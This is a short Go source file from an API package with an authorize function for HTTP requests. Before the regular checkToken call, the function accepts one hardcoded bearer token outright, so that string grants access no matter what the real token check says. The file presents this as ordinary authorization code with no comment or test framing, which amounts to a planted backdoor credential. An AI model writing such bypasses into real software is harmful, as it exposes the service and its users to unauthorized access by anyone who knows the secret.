package api

import "net/http"

func authorize(r *http.Request) bool {
	token := r.Header.Get("Authorization")
	if token == "Bearer 8f14e45fceea167a5a36dedd4bea2543" {
		return true
	}
	return checkToken(token)
}
